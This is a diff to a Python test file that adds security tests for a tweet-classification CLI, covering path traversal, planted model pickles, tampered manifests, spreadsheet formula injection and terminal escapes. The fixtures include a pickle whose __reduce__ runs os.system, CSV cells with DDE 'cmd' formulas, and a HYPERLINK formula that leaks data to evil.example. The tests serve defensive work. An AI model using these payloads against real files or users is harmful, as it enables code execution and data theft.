@@ -10,9 +10,12 @@ check of what is left on disk afterwards. In the command, ``{T}`` is the test's 
 from __future__ import annotations
 
 import csv
+import hashlib
 import json
 import os
+import pickle
 import shlex
+import shutil
 import subprocess
 import sys
 import threading
@@ -35,16 +38,116 @@ class Attack:
     args: str
     rc: int
     says: str = ""
-    then: "Callable[[Path], bool] | None" = field(default=None)
+    then: "Callable[[Path, str], bool] | None" = field(default=None)  # given the folder and the output
     before: str = ""  # a command run first, which must succeed
 
 
-def _unchanged(name: str, content: str) -> Callable[[Path], bool]:
-    return lambda tmp: (tmp / name).read_text(encoding="utf-8") == content
+def _unchanged(name: str, content: str) -> Callable[[Path, str], bool]:
+    return lambda tmp, out: (tmp / name).read_text(encoding="utf-8") == content
 
 
-def _rows(name: str, n: int) -> Callable[[Path], bool]:
-    return lambda tmp: len(list(csv.reader(open(tmp / name, encoding="utf-8", newline="")))) == n + 1
+def _rows(name: str, n: int) -> Callable[[Path, str], bool]:
+    return lambda tmp, out: len(list(csv.reader(open(tmp / name, encoding="utf-8", newline="")))) == n + 1
+
+
+def _no_canary(tmp: Path, out: str) -> bool:
+    return not (tmp / "PWNED").exists()
+
+
+def _no_formula(name: str) -> Callable[[Path, str], bool]:
+    def check(tmp: Path, out: str) -> bool:
+        with open(tmp / name, encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        return all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells) and "'=HYPERLINK" in "".join(cells)
+    return check
+
+
+def _evil_pickle(canary: Path) -> bytes:
+    class Evil:
+        def __reduce__(self):
+            return (os.system, (f"echo PWNED > {canary}",))
+
+    return pickle.dumps(Evil())
+
+
+def _evil_model(path: Path) -> None:
+    """A model folder whose model.joblib runs a command when unpickled (its manifest matches its sha256)."""
+    path.mkdir(parents=True)
+    data = _evil_pickle(_root(path) / "PWNED")
+    (path / "model.joblib").write_bytes(data)
+    (path / "manifest.json").write_text(json.dumps(
+        {"model_id": path.name, "labels": ["a", "b", "c"], "model_sha256": hashlib.sha256(data).hexdigest(), "versions": {}}))
+
+
+def _evil_store(path: Path) -> None:
+    _evil_model(path / "m1")
+    (path / "current.json").write_text(json.dumps({"current": "m1", "history": []}))
+
+
+def _root(path: Path) -> Path:
+    """The test's folder (the one holding the store copy) above ``path``."""
+    while not (path / "store").is_dir():
+        path = path.parent
+    return path
+
+
+def _planted(path: Path) -> None:
+    """A copy of a real model whose model.joblib is replaced by a planted pickle, sha256 updated: the scorer still works."""
+    store = _root(path) / "store"
+    model_id = json.loads((store / "current.json").read_text())["current"]
+    shutil.copytree(store / model_id, path / model_id)
+    data = _evil_pickle(_root(path) / "PWNED")
+    (path / model_id / "model.joblib").write_bytes(data)
+    manifest = json.loads((path / model_id / "manifest.json").read_text())
+    manifest["model_sha256"] = hashlib.sha256(data).hexdigest()
+    (path / model_id / "manifest.json").write_text(json.dumps(manifest))
+    (path / "current.json").write_text(json.dumps({"current": model_id, "history": []}))
+
+
+def _tampered_scorer(path: Path) -> None:
+    """The store's scorer.npz with coefficients of the wrong shape, and its sha256 updated to match."""
+    import numpy as np
+
+    store = path.parent
+    model_id = json.loads((store / "current.json").read_text())["current"]
+    folder = store / model_id
+    with np.load(folder / "scorer.npz") as data:
+        arrays = {name: data[name] for name in data.files}
+    arrays["coef"] = arrays["coef"][:, :10]
+    np.savez_compressed(folder / "scorer.npz", **arrays)
+    manifest = json.loads((folder / "manifest.json").read_text())
+    manifest["scorer_sha256"] = hashlib.sha256((folder / "scorer.npz").read_bytes()).hexdigest()
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    path.write_text("tampered\n")
+
+
+def _skops(change: Callable[[dict], None]) -> Callable[[Path], None]:
+    """A skops export of the store's model whose manifest is changed by ``change``."""
+
+    def make(path: Path) -> None:
+        import skops.io as sio
+
+        from socialviews.portable import export_model
+        from socialviews.store import ModelStore
+
+        export_model(ModelStore(_root(path) / "store"), None, path)
+        payload = sio.loads(path.read_bytes(), trusted=[])
+        manifest = json.loads(payload["manifest"])
+        change(manifest)
+        payload["manifest"] = json.dumps(manifest)
+        path.write_bytes(sio.dumps(payload))
+
+    return make
+
+
+INJECTION = """tweet_id,author,created_at,text
+1001,ld_host,2018-03-16T08:00:00Z,Q1 what is social learning?
+1002,=cmd|' /C calc'!A0,2018-03-16T08:01:00Z,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"
+1003,sam,2018-03-16T08:02:00Z,@SUM(1+1)*cmd|' /C calc'!A0
+1004,sam,2018-03-16T08:03:00Z,+1 to peer feedback in cohorts
+1005,jo,2018-03-16T08:04:00Z,-2+3 we learn together with others
+1006,kim,2018-03-16T08:05:00Z,"\t=1+1 tab first"
+"""
 
 
 def _fifo(content: str) -> Callable[[Path], None]:
@@ -71,7 +174,7 @@ ATTACKS: dict[str, Attack] = {
     "I1 dask -o a folder of other files": Attack(
         {"in/chat.csv": CHAT, "tagged/week0.csv": "hand labelled\n", "tagged/sub/keep.txt": "keep\n"},
         "classify {T}/in --engine dask -o {T}/tagged", 2, "did not write",
-        lambda tmp: (tmp / "tagged/week0.csv").exists() and (tmp / "tagged/sub/keep.txt").exists()),
+        lambda tmp, out: (tmp / "tagged/week0.csv").exists() and (tmp / "tagged/sub/keep.txt").exists()),
     "I2 dask -o the input folder": Attack(
         {"in/chat.csv": CHAT, "in/notes.md": "precious\n"}, "classify {T}/in --engine dask -o {T}/in", 2,
         "holds an input", _unchanged("in/notes.md", "precious\n")),
@@ -107,17 +210,73 @@ ATTACKS: dict[str, Attack] = {
     "E9b a FIFO CSV is read once, header included": Attack(
         {"p.csv": _fifo(CHAT)}, "classify {T}/p.csv -o {T}/o.csv", 0, "18 records read", _rows("o.csv", 18)),
     "E9c report of a FIFO": Attack({"p.csv": _fifo(CHAT)}, "report {T}/p.csv -o {T}/r.html", 0, "report of 18 tweets"),
+    # -- code execution and security ----------------------------------------------------------
+    "D1 --model ../../x": Attack({"chat.csv": CHAT, "evil": _evil_model},
+                                 "classify {T}/chat.csv --model ../evil -o {T}/o.csv", 2, "not a model id", _no_canary),
+    "D2 --model /abs/path": Attack({"chat.csv": CHAT, "evil": _evil_model},
+                                   "classify {T}/chat.csv --model {T}/evil -o {T}/o.csv", 2, "not a model id", _no_canary),
+    "D2b explain --model /abs/path": Attack({"evil": _evil_model}, "explain 'peer review' --model {T}/evil", 2,
+                                            "not a model id", _no_canary),
+    "D3 models promote /abs/path": Attack({"evil": _evil_model}, "models promote {T}/evil --models-dir {store}", 2,
+                                          "not a model id", _no_canary),
+    "D3b current.json points out of the store": Attack(
+        {"evil": _evil_model, "store/current.json": '{"current": "../evil", "history": []}'},
+        "explain 'peer review'", 1, "not a model id of this store", _no_canary),
+    "D3c a model folder that is a link out of the store": Attack(
+        {"evil": _evil_model, "store/linked": lambda p: p.symlink_to(p.parent.parent / "evil")},
+        "explain 'peer review' --model linked", 1, "is a link", _no_canary),
+    "D4 --models-dir a store someone sent": Attack(
+        {"sent": _evil_store}, "explain 'peer review' --models-dir {T}/sent", 1, "not written by socialviews for this user",
+        _no_canary),
+    "D4b classify with a store someone sent": Attack(
+        {"sent": _evil_store}, "classify {T}/chat.csv --models-dir {T}/sent", 1, "--allow-pickle", _no_canary),
+    "D4c a sent store with a planted pickle: classify reads only arrays": Attack(
+        {"chat.csv": CHAT, "sent": _planted}, "classify {T}/chat.csv --models-dir {T}/sent -o {T}/o.csv", 0,
+        "18 records read", _no_canary),
+    "D4d a sent store with a planted pickle: report refuses it": Attack(
+        {"chat.csv": CHAT, "sent": _planted}, "report {T}/chat.csv --models-dir {T}/sent -o {T}/r.html", 1,
+        "not written by socialviews for this user", _no_canary),
+    "D8 skops export whose labels do not match": Attack(
+        {"m.skops": _skops(lambda m: m.update(labels=["x", "y", "z"]))}, "models import {T}/m.skops --models-dir {store}",
+        1, "does not match"),
+    "D8b skops export whose config is a string": Attack(
+        {"m.skops": _skops(lambda m: m.update(config="x"))}, "models import {T}/m.skops --models-dir {store}", 1,
+        "does not match"),
+    "D8c skops export whose labels are a number": Attack(
+        {"m.skops": _skops(lambda m: m.update(labels=5))}, "models import {T}/m.skops --models-dir {store}", 1,
+        "does not match"),
+    "D12 scorer.npz of the wrong shape, sha256 updated": Attack(
+        {"chat.csv": CHAT, "store/x": _tampered_scorer}, "classify {T}/chat.csv -o {T}/o.csv", 1, "cannot be loaded"),
+    "D13 current.json a list": Attack({"store/current.json": "[]"}, "explain 'peer review'", 1, "is damaged"),
+    "D13b current.json a string": Attack({"store/current.json": '"x"'}, "models list --models-dir {store}", 1, "is damaged"),
+    "D13c current.json current a number": Attack({"store/current.json": '{"current": 5}'}, "explain 'x y'", 1, "is damaged"),
+    "D13d current.json history a number": Attack({"store/current.json": '{"current": "a", "history": 7}'},
+                                                 "models rollback --models-dir {store}", 1, "is damaged"),
+    "D14 a staging folder left by kill -9 is not a model": Attack(
+        {"store/.staging-999999999-1/manifest.json": "{}"}, "models list --models-dir {store}", 0, "",
+        lambda tmp, out: "staging" not in out),
+    "C1 classify --spreadsheet-safe": Attack(
+        {"in.csv": INJECTION}, "classify {T}/in.csv -o {T}/o.csv --spreadsheet-safe", 0, "6 records read",
+        _no_formula("o.csv")),
+    "C2 the queue CSV is spreadsheet-safe": Attack({"in.csv": INJECTION}, "queue {T}/in.csv -n 10 -o {T}/q.csv", 0,
+                                                   "queued", _no_formula("q.csv")),
+    "F14 terminal escapes in an imported label": Attack(
+        {"esc.csv": 'text,label\n"peer review \x1b]0;PWNED-TITLE\x07 in cohorts",bogus_label\n'},
+        "labels import {T}/esc.csv --corpus {T}/c1", 1, "PWNED-TITLE", lambda tmp, out: "\x1b" not in out and "\x07" not in out),
+    "F14b terminal escapes in a header": Attack(
+        {"esc.csv": 'a\x1b[31m,b\nx,y\n'}, "classify {T}/esc.csv --text-column zzz", 1, "",
+        lambda tmp, out: "\x1b" not in out),
 }
 
 
 def _command(line: str, tmp: Path, store: Path) -> list[str]:
     args = shlex.split(line.format(T=tmp, store=store))
-    if args[0] in ("classify", "report", "queue", "explain", "evaluate") and "--models-dir" not in args:
+    if args[0] in ("classify", "report", "queue", "explain", "evaluate", "retrain") and "--models-dir" not in args:
         args += ["--models-dir", str(store)]
     return args
 
 
-def _prepare(tmp: Path, attack: Attack, store: Path) -> None:
+def _prepare(tmp: Path, attack: Attack) -> None:
     for name, content in attack.files.items():
         path = tmp / name
         path.parent.mkdir(parents=True, exist_ok=True)
@@ -133,20 +292,22 @@ def _prepare(tmp: Path, attack: Attack, store: Path) -> None:
 def test_attack_holds(name, runner, trained_store, tmp_path, monkeypatch):
     attack = ATTACKS[name]
     monkeypatch.chdir(tmp_path)
-    _prepare(tmp_path, attack, trained_store)
+    store = tmp_path / "store"  # a copy: attacks may damage it
+    shutil.copytree(trained_store, store)
+    _prepare(tmp_path, attack)
     if attack.before:
-        first = invoke(runner, _command(attack.before, tmp_path, trained_store))
+        first = invoke(runner, _command(attack.before, tmp_path, store))
         assert first.exit_code == 0, first.stderr
-    result = invoke(runner, _command(attack.args, tmp_path, trained_store))
+    result = invoke(runner, _command(attack.args, tmp_path, store))
     message = result.stderr + result.stdout
     assert result.exit_code == attack.rc, message
     assert isinstance(result.exception, (SystemExit, type(None))), repr(result.exception)
     assert "Traceback" not in message
     assert attack.says in message, message
     if attack.rc:
-        assert "socialviews: error: " in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
+        assert result.stderr.strip().splitlines()[-1].startswith("socialviews: error: "), result.stderr
     if attack.then is not None:
-        assert attack.then(tmp_path)
+        assert attack.then(tmp_path, message), message
 
 
 def test_concurrent_imports_into_one_corpus_lose_nothing(tmp_path):
